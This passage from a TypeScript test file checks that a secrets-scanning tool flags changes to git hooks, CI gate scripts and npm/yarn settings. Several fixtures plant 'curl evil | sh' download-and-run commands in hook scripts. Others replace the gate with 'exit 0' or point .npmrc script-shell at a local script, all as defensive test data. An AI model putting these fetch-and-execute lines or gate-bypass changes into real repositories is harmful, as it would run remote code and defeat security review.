    const hook = { ".husky/pre-commit": 'tools/hook.sh\nfor f in .githooks/pre-commit.d/*; do "$f"; done\n' };
    const files = { "tools/hook.sh": '#!/bin/sh\n"$(dirname "$0")/lib/guard"\n', "tools/lib/guard": "echo\n", ".githooks/pre-commit.d/10-fmt": "echo\n", "docs/a.md": "a\n" };
    const evil = { ...files, "tools/lib/guard": "curl evil | sh\n", ".githooks/pre-commit.d/20-new": "curl evil | sh\n", "docs/a.md": "b\n" };
    const changed = async () => ["tools/lib/guard", ".githooks/pre-commit.d/20-new", "docs/a.md"];
    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: tree({ ...hook, ...files }) }, { hooks: Object.keys(hook), read: tree({ ...hook, ...evil }) }, changed);
    expect(changes.map((c) => [c.path, c.via, c.computed]).sort()).toEqual([
      [".githooks/pre-commit.d/20-new", ".husky/pre-commit", ".githooks/pre-commit.d/*"],
      ["tools/lib/guard", ".husky/pre-commit", "lib/guard"],
    ]);
    expect(await readHookScriptChanges({ hooks: Object.keys(hook), read: tree({ ...hook, ...files }) }, { hooks: Object.keys(hook), read: tree({ ...hook, ...evil }) })).toEqual([]);
  });
});

describe("the CI gate and a package manager's settings", () => {
  it("a gate step that runs npm run (no install) has .npmrc read: a script-shell change is the gate's change, and the file it names; with an install there, .npmrc is named once, as the dependencies'", async () => {
    const wf = { ".github/workflows/ci.yml": WORKFLOW("npm run review"), "package.json": JSON.stringify({ scripts: { review: "stellar-secrets review origin/main...HEAD" } }) };
    const base = tree({ ...wf, ".npmrc": "save-exact=true\n" });
    const head = tree({ ...wf, ".npmrc": "script-shell=./tools/sh\n", "tools/sh": "exit 0\n" });
    const changes = gateWorkflowChanges(await readGateChanges({ roots: [".github/workflows/ci.yml"], read: base }, { roots: [".github/workflows/ci.yml"], read: head }));
    expect(changes.map((c) => [c.path, c.change, c.via])).toEqual([
      [".npmrc", "modified", ".github/workflows/ci.yml"],
      ["tools/sh", "added", ".github/workflows/ci.yml"],
    ]);
    const web = { ".github/workflows/ci.yml": WORKFLOW("cd web && npm ci && npm run review"), "web/package.json": JSON.stringify({ scripts: { review: "stellar-secrets review" } }) };
    const both = gateWorkflowChanges(await readGateChanges({ roots: [".github/workflows/ci.yml"], read: tree({ ...web, "web/.npmrc": "a=1\n" }) }, { roots: [".github/workflows/ci.yml"], read: tree({ ...web, "web/.npmrc": "a=2\n" }) }));
    expect(both.map((c) => [c.path, c.install])).toEqual([["web/package.json", ["web/.npmrc"]]]);
  });
});

describe("the CI gate through a path computed at run time", () => {
  it("a changed file whose path ends as a path a gate file computes (\"$GITHUB_WORKSPACE/tools/gate\") is read as one the gate runs: named when it ran stellar-secrets, with the workflow and the pattern; nothing without the list of changed files", async () => {
    const wf = { ".github/workflows/ci.yml": WORKFLOW('"$GITHUB_WORKSPACE/tools/gate" origin/main') };
    const base = tree({ ...wf, "tools/gate": "#!/bin/sh\nstellar-secrets review \"$1...HEAD\"\n", "docs/a.md": "a\n" });
    const head = tree({ ...wf, "tools/gate": "#!/bin/sh\nexit 0\n", "docs/a.md": "b\n" });
    const roots = [".github/workflows/ci.yml"];
    const changes = gateWorkflowChanges(await readGateChanges({ roots, read: base }, { roots, read: head }, async () => ["tools/gate", "docs/a.md"]));
    expect(changes.map((c) => [c.path, c.change, c.via, c.computed])).toEqual([["tools/gate", "modified", ".github/workflows/ci.yml", "tools/gate"]]);
    expect(gateWorkflowChanges(await readGateChanges({ roots, read: base }, { roots, read: head }))).toEqual([]);
    // a JavaScript file's template string is no command: a gate script in JavaScript gives no pattern
    const js = { ".github/workflows/ci.yml": WORKFLOW("node scripts/gate.mjs"), "scripts/gate.mjs": "import { execFileSync } from 'node:child_process';\nexecFileSync(`${root}/tools/gate`);\n// stellar-secrets\n" };
    expect(gateWorkflowChanges(await readGateChanges({ roots, read: tree({ ...js, "tools/gate": "stellar-secrets review\n" }) }, { roots, read: tree({ ...js, "tools/gate": "exit 0\n" }) }, async () => ["tools/gate"]))).toEqual([]);
  });
});

describe("readHookScriptChanges: a package manager's settings", () => {
  it("a hook that runs npm, yarn, pnpm or bun has that tool's settings files read (at the top, after its cd, in the folder of a script it runs): a changed .npmrc script-shell, and the file it names, are named; a hook without one reads none", async () => {
    const hook = { ".husky/pre-commit": "npm run lint\ncd web && yarn test\n" };
    const base = tree({ ...hook, "package.json": JSON.stringify({ scripts: { lint: "eslint ." } }), ".npmrc": "save-exact=true\n", "web/.yarnrc.yml": "nodeLinker: node-modules\n" });
    const head = tree({ ...hook, "package.json": JSON.stringify({ scripts: { lint: "eslint ." } }), ".npmrc": "save-exact=true\nscript-shell=./tools/sh\n", "tools/sh": "curl evil | sh\n", "web/.yarnrc.yml": "yarnPath: tools/yarn.cjs\n" });
    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: base }, { hooks: Object.keys(hook), read: head });
    expect(changes.map((c) => [c.path, c.via]).sort()).toEqual([
      [".npmrc", ".husky/pre-commit"],
      ["tools/sh", ".husky/pre-commit"],
      ["web/.yarnrc.yml", ".husky/pre-commit"],
    ]);
    const other = { ".husky/pre-commit": "./tools/fmt.sh\n" };
    expect(await readHookScriptChanges({ hooks: Object.keys(other), read: tree({ ...other, ".npmrc": "a=1\n" }) }, { hooks: Object.keys(other), read: tree({ ...other, ".npmrc": "script-shell=./x\n" }) })).toEqual([]);
  });
});

describe("a command computed from a variable assigned a literal", () => {
  const hooks = [".husky/pre-commit"];
  const run = async (files: Record<string, string>) =>
    (await readHookScriptChanges({ hooks, read: tree({ ...files, "tools/gate": "stellar-secrets pre-commit\n" }) }, { hooks, read: tree({ ...files, "tools/gate": "exit 0\n" }) })).map((c) => [c.path, c.via]);
  it("a hook's $CMD, eval \"$X\", sh -c \"$Y\", an exported one, and one a sourced file assigns are resolved and followed: a change to tools/gate is named", async () => {
    for (const hook of ["CMD=tools/gate\n$CMD\n", 'X="tools/gate --fast"\neval "$X"\n', "Y='tools/gate'\nsh -c \"$Y\"\n", 'export GATE="tools/gate"\n"$GATE" "$@"\n', ". ./env.sh\n${GATE}\n"]) {
      expect(await run({ ".husky/pre-commit": hook, "env.sh": "GATE=tools/gate\n" }), hook).toEqual([["tools/gate", ".husky/pre-commit"]]);
    }
    // a variable holding a file's text (CMD=$(cat .hook-cmd)), then run: that file decides what runs
    const fromFile = { ".husky/pre-commit": "CMD=$(cat .hook-cmd)\neval \"$CMD\"\n" };
    const viaFile = await readHookScriptChanges({ hooks, read: tree({ ...fromFile, ".hook-cmd": "npx prettier --check .\n" }) }, { hooks, read: tree({ ...fromFile, ".hook-cmd": "curl evil | sh\n" }) });
    expect(viaFile.map((c) => [c.path, c.via])).toEqual([[".hook-cmd", ".husky/pre-commit"]]);
    // a variable from outside the repository (no literal assignment) is not guessed; a name only printed is no command
    expect(await run({ ".husky/pre-commit": '$CMD\neval "$X"\n' })).toEqual([]);
    expect(await run({ ".husky/pre-commit": 'MSG=tools/gate\necho "$MSG"\n' })).toEqual([]);
  });

  it("literalVariablesOf / withLiteralVariables / commandWordsOf: literal values only, uses rewritten on added lines, the text unchanged first", () => {
    const vars = literalVariablesOf('A=x/y\nexport B="c d"\nC=$(cat tools/cmd)\nD=$HOME/x\nE="$(date)"\n# F=no\nlocal G=\'g\'\n', "hook");
    expect([...vars]).toEqual([["A", ["x/y"]], ["B", ["c d"]], ["C", ["$(cat tools/cmd)"]], ["G", ["g"]]]);
    expect(withLiteralVariables("$A --x\n${B}\n$AB\necho\n", vars)).toBe("$A --x\n${B}\n$AB\necho\n\nx/y --x\nc d");
    expect(literalVariablesOf("jobs:\n  gate:\n    env:\n      GATE: tools/gate\n      REF: ${{ github.base_ref }}\n", "ci.yml").get("GATE")).toEqual(["tools/gate"]);
    expect(literalVariablesOf("jobs:\n  gate:\n    env:\n      REF: ${{ github.base_ref }}\n", "ci.yml").has("REF")).toBe(false);
    expect(commandWordsOf('      - run: tools/gate --x\n  x && ci/review\neval "bin/a"\nsh -c \'bin/b\'\necho dist/c\n# tools/no\n')).toEqual(["tools/gate", "ci/review", "bin/a", "bin/b"]);
  });

  it("the CI gate: a run step's command path with no extension, a variable of the workflow's env: (also in a script it runs), one a sourced file assigns: a change to tools/gate is the gate's", async () => {
    const roots = [".github/workflows/ci.yml"];
    const gate = async (files: Record<string, string>) =>
      gateWorkflowChanges(await readGateChanges({ roots, read: tree({ ...files, "tools/gate": "stellar-secrets review origin/main...HEAD\n" }) }, { roots, read: tree({ ...files, "tools/gate": "exit 0\n" }) })).map((c) => [c.path, c.change]);
    const env = (run: string) => `on: pull_request\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    env:\n      GATE: tools/gate\n    steps:\n      - uses: actions/checkout@v4\n      - run: ${run}\n`;
    expect(await gate({ ".github/workflows/ci.yml": WORKFLOW("tools/gate origin/main") })).toEqual([["tools/gate", "modified"]]);
    expect(await gate({ ".github/workflows/ci.yml": env('"$GATE" origin/main') })).toEqual([["tools/gate", "modified"]]);
    expect(await gate({ ".github/workflows/ci.yml": env("ci/run.sh"), "ci/run.sh": '#!/bin/sh\nexec "$GATE" "$@"\n' })).toEqual([["tools/gate", "modified"]]);
    expect(await gate({ ".github/workflows/ci.yml": WORKFLOW("ci/run.sh"), "ci/run.sh": '#!/bin/sh\n. ci/env.sh\n$GATE\n', "ci/env.sh": "GATE=tools/gate\n" })).toEqual([["tools/gate", "modified"]]);
    // no variable assigned: nothing guessed
    expect(await gate({ ".github/workflows/ci.yml": WORKFLOW('"$GATE" origin/main') })).toEqual([]);
  });
});

describe("hook scripts of a folder the repository sets as git's core.hooksPath", () => {
  it("hooksPathFoldersOf: the folder written out in git config core.hooksPath DIR (or hooksPath = DIR); not .git/, husky's, absolute or computed ones", () => {
    expect(hooksPathFoldersOf('"prepare": "git config core.hooksPath .githooks/"\ngit config --local core.hooksPath tools/hooks\n[core]\n\thooksPath = ci/hooks\n')).toEqual([".githooks", "tools/hooks", "ci/hooks"]);
    expect(hooksPathFoldersOf("git config core.hooksPath .husky/_\ngit config core.hooksPath /etc/hooks\ngit config core.hooksPath $DIR\ngit config core.hooksPath .git/hooks\n")).toEqual([]);
  });

  it("a changed hook script of such a folder is named (via itself), and what it runs (via the hook); without the folder, nothing", async () => {
    const files = { ".githooks/pre-commit": "stellar-secrets pre-commit\ntools/check\n", "tools/check": "echo\n" };
    const evil = { ".githooks/pre-commit": "curl evil | sh\ntools/check\n", "tools/check": "curl evil | sh\n" };
    const hooks = [".githooks/pre-commit"];
    const changes = await readHookScriptChanges({ hooks, read: tree(files) }, { hooks, read: tree(evil) }, undefined, [".githooks"]);
    expect(changes.map((c) => [c.path, c.via]).sort()).toEqual([
      [".githooks/pre-commit", ".githooks/pre-commit"],
      ["tools/check", ".githooks/pre-commit"],
    ]);
    expect(await readHookScriptChanges({ hooks, read: tree(files) }, { hooks, read: tree(evil) })).toEqual([]);
  });
});
